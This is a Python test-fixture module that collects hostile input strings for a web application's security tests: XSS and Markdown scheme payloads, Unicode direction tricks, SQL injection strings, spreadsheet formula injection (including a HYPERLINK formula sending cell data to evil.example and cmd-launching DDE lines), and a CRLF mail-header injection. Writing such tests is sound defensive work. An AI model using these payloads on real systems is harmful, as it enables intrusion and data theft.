"""A fixed corpus of hostile strings (SECURITY-NOTES D1, D2, D3, D4, D6, D7, E1).

Each entry has a name (the test id) and the text. `MARK` sits in every payload that a page could
show, so a test can find where it landed. The corpus is split by what it attacks; `REFUSED` holds
what no text field may accept (a clean 422 or a form error, never a 500), the rest must be stored
and shown escaped or neutralised."""

MARK = "zq7x"  # an unlikely word: where the payload landed

# --- HTML and attribute breakers: stored, shown as text, never markup.
MARKUP = {
    "script": f"<script>window.__xss_{MARK}=1</script>",
    "script-upper": f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
    "img-onerror": f'<img src=x onerror="window.__xss_{MARK}=1">',
    "svg-onload": f'"><svg onload=alert("{MARK}")>',
    "attr-single": f"' onmouseover='alert(\"{MARK}\")' x='",
    "attr-double": f'" autofocus onfocus="alert(\'{MARK}\')" x="',
    "iframe": f'<iframe src="javascript:alert(\'{MARK}\')"></iframe>',
    "htmx": f'<div hx-get="/api/v1/me" hx-trigger="load" hx-on::load="alert(\'{MARK}\')">{MARK}</div>',
    "template": f"{{{{7*7}}}} {{% raw %}}{MARK}{{{{ config }}}}",
    "style": f"<style>body{{display:none}}</style><p style=\"x:expression(alert('{MARK}'))\">{MARK}</p>",
    "entities": f"&lt;script&gt;{MARK}&#x3C;/script&#x3E; &#106;avascript:alert(1)",
}

# --- Markdown tricks: links and images with dangerous schemes, raw HTML, reference links,
# autolinks, entities, nested emphasis. The rendered Markdown keeps only http(s) and mailto links.
MARKDOWN = {
    "md-js-link": f"[clic {MARK}](javascript:alert(1))",
    "md-js-link-encoded": f"[clic {MARK}](jav&#x61;script:alert(1)) [b](JaVaScRiPt:alert(1)) [c]( javascript:x)",
    "md-data-link": f"[clic {MARK}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-vbscript": f"[clic {MARK}](vbscript:msgbox(1))",
    "md-image-js": f"![{MARK}](javascript:alert(1)) ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md-raw-html": f"Texte **{MARK}**\n\n<script>alert(1)</script>\n\n<a href=\"javascript:alert(1)\">x</a>",
    "md-reference": f"[clic {MARK}][r]\n\n[r]: javascript:alert(1) \"titre\"",
    "md-autolink": f"<javascript:alert(1)> <data:text/html,{MARK}> <https://exemple.fr/{MARK}>",
    "md-title-break": f'[x](https://exemple.fr/ "a\\" onmouseover=\\"alert(1)") {MARK}',
    "md-nested": f"***__~~{MARK}~~__*** _*_*_*a*_*_*_ " + "*" * 200 + "[" * 200,
    "md-svg": f"<svg><script>alert('{MARK}')</script></svg>",
}

# --- Unicode: direction overrides, zero-width characters, combining marks, full-width formulas.
UNICODE = {
    "rtl-override": f"\u202egnp.exe{MARK}\u202c \u2066\u2067\u2068x\u2069",
    "zero-width": f"a\u200bd\u200cm\u200di\u2060n\ufeff {MARK}",
    "combining": f"Z\u0351\u0352\u0353a\u0300\u0301l\u0302\u0303g\u0304o {MARK}",
    "astral": f"😀🏳️‍🌈 𝕏 {MARK}",
}

# --- SQL and LIKE metacharacters: matched literally, never interpreted.
SQL = {
    "sql-drop": f"'; DROP TABLE proposal; -- {MARK}",
    "sql-or": f"' OR '1'='1' -- {MARK}",
    "sql-sleep": f"1) ORDER BY pg_sleep(5) -- {MARK}",
    "sql-like": f"%_\\%{MARK}\\_%",
    "sql-quote": f'"\\\'{MARK}`',
}

# --- Spreadsheet formulas: neutralised in CSV, stored as text in XLSX/ODS, untouched in JSON.
FORMULAS = {
    "csv-hyperlink": f'=HYPERLINK("https://evil.example/?x="&A1,"{MARK}")',
    "csv-plus": f"+1+cmd|' /C calc'!A0 {MARK}",
    "csv-minus": f"-2+3 {MARK}",
    "csv-at": f"@SUM(1+1)*cmd|' /C calc'!A0 {MARK}",
    "csv-tab": f"\t=1+1 {MARK}",
    "csv-cr": f"\r=1+1 {MARK}",
    "csv-quoted": f"\"'=1+1 {MARK}",
}

# --- Header injection (CRLF in what may reach a mail subject or a file name).
HEADERS = {
    "crlf": f"Objet {MARK}\r\nBcc: victime@example.fr\r\nX-Injected: 1",
}

# Stored and shown (escaped or neutralised).
SHOWN = {**MARKUP, **MARKDOWN, **UNICODE, **SQL, **FORMULAS}

# What no text field may accept: a clean 422 or form error, never a 500.
LONG = "A" * 100_000 + MARK
REFUSED = {
    "nul": f"avant\x00apres {MARK}",
    "nul-only": "\x00",
    "long": LONG,
}
# Control characters: refused or stripped, never a 500.
HEADERS["control"] = f"bell\x07esc\x1b[31m {MARK}"

# Every payload, for the sweeps over query parameters and the fields no page shows.
EVERYTHING = {**SHOWN, **HEADERS, **REFUSED}

# A representative subset for the (route × field × payload) sweep, where the full product would be
# thousands of requests (minutes per database): what breaks servers (NUL, over-long, control
# characters, CRLF), what breaks SQL, and one markup and one Markdown payload (the escaping of
# every SHOWN payload is checked where texts are stored and shown).
SAMPLE = {name: EVERYTHING[name] for name in ("nul", "long", "control", "crlf", "sql-drop", "svg-onload", "md-js-link")}
